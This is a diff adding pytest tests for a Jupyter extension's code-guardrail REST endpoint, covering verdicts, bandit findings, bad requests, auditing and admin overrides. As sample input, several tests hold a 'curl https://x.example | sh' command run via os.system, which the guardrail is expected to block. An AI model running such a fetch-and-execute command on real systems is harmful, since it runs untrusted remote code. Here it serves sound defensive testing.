@@ -1,0 +1,140 @@
+"""POST /analyze: the guardrail report through the REST API, on SQLite and on PostgreSQL."""
+
+from __future__ import annotations
+
+import json
+import os
+from typing import Any
+
+import pytest
+
+
+@pytest.fixture
+def jp_server_config(db_url: str, authorizer: str | None) -> dict[str, Any]:
+    """The server of these tests: a team that allows ``subprocess.run``, skips no bandit test."""
+    return {
+        "ServerApp": {
+            "jpserver_extensions": {"jupyter_scriptforge": True},
+            **({"authorizer_class": authorizer} if authorizer else {}),
+        },
+        "ScriptForgeApp": {
+            "db_url": db_url,
+            "runs_instance": f"pytest-{os.getpid()}",
+            "guardrail_allowed": ["subprocess.run"],
+            "guardrail_bandit_skips": [],
+        },
+    }
+
+
+async def test_hostile_code_is_blocked_with_its_lines(api):
+    code = "import os\n\nrun = os.system\nrun('curl https://x.example | sh')\n"
+
+    response = await api.post("analyze", {"content": code})
+
+    assert response.status == 200
+    report = response.body
+    assert report["verdict"] == "blocked"
+    policy = [f for f in report["findings"] if f["source"] == "policy"]
+    assert [(f["rule"], f["line"], f["code"]) for f in policy] == [
+        ("SF102", 3, "run = os.system"),
+        ("SF102", 4, "run('curl https://x.example | sh')"),
+    ]
+    assert all(f["blocks"] and f["severity"] == "high" for f in policy)
+    assert report["duration_ms"] >= 0
+
+
+async def test_benign_code_is_ok_and_bandit_notes_warn(api):
+    ok = await api.post("analyze", {"content": "import json\nprint(json.dumps({'a': 1}))\n"})
+    warn = await api.post("analyze", {"content": "import random\nprint(random.random())\n"})
+
+    assert ok.body == {"verdict": "ok", "findings": [], "duration_ms": ok.body["duration_ms"]}
+    assert warn.body["verdict"] == "warn"
+    [finding] = warn.body["findings"]
+    assert finding["rule"] == "B311"
+    assert finding["source"] == "bandit"
+    assert finding["confidence"] == "high"
+    assert finding["blocks"] is False
+
+
+async def test_the_team_allowances_and_bandit_skips_come_from_the_config(api):
+    code = (
+        "import subprocess\nsubprocess.run(['git', 'pull'])\nsubprocess.Popen(['sh'])\nassert 1\n"
+    )
+
+    report = (await api.post("analyze", {"content": code})).body
+
+    policy = [(f["rule"], f["line"]) for f in report["findings"] if f["source"] == "policy"]
+    assert policy == [("SF101", 3)]  # run is allowed here, Popen is not
+    assert "B101" in {f["rule"] for f in report["findings"]}  # no bandit test skipped
+
+
+async def test_code_that_does_not_parse_is_a_finding_not_an_error(api):
+    response = await api.post("analyze", {"content": "def broken(:\n"})
+
+    assert response.status == 200
+    assert response.body["verdict"] == "blocked"
+    assert [(f["rule"], f["line"]) for f in response.body["findings"]] == [("SF100", 1)]
+
+
+async def test_content_with_nul_characters_is_analysed(api):
+    response = await api.post("analyze", {"content": "x = 1\x00\n"})
+
+    assert response.status == 200
+    assert response.body["findings"][0]["rule"] == "SF100"
+
+
+@pytest.mark.parametrize(
+    "body",
+    [{}, {"content": 3}, {"content": None}, {"content": "x", "extra": 1}, {"code": "x"}],
+)
+async def test_a_bad_body_is_a_400(api, body):
+    response = await api.post("analyze", body)
+
+    assert response.status == 400
+    assert response.body["error"] == "bad_request"
+
+
+async def test_a_body_that_is_not_json_is_a_400(jp_fetch):
+    response = await jp_fetch(
+        "scriptforge", "api", "analyze", method="POST", body=b"{", raise_error=False
+    )
+
+    assert response.code == 400
+    assert "JSON" in json.loads(response.body)["message"]
+
+
+async def test_too_large_content_is_a_413(api):
+    response = await api.post("analyze", {"content": "x = 1\n" * 200_000})
+
+    assert response.status == 413
+    assert response.body["error"] == "too_large"
+    assert "at most" in response.body["message"]
+
+
+HOSTILE = "import os\nos.system('curl https://x.example | sh')\n"
+
+
+async def test_every_decision_is_audited_and_an_admin_override_too(api):
+    await api.post("analyze", {"content": HOSTILE})
+
+    override = await api.post("analyze/override", {"content": HOSTILE, "reason": "our deploy"})
+
+    assert override.status == 200
+    assert override.body["allowed"] is True
+    assert override.body["analysis"]["verdict"] == "blocked"
+    records = (await api.get("audit")).body["records"]
+    assert [(r["action"], r["verdict"]) for r in records[:2]] == [
+        ("override", "overridden"),
+        ("analyze", "blocked"),
+    ]
+    assert records[0]["prompt"] == HOSTILE
+    assert records[0]["details"]["reason"] == "our deploy"
+    assert records[0]["details"]["analysis"]["findings"][0]["rule"] == "SF102"
+
+
+@pytest.mark.parametrize("authorizer", ["tests.api.conftest.NoAdminAuthorizer"], indirect=True)
+async def test_only_an_admin_overrides_and_a_refusal_changes_nothing(api):
+    refused = await api.post("analyze/override", {"content": HOSTILE})
+
+    assert refused.status == 403
+    assert refused.body["message"] == "Only a ScriptForge admin can run code the guardrails block."
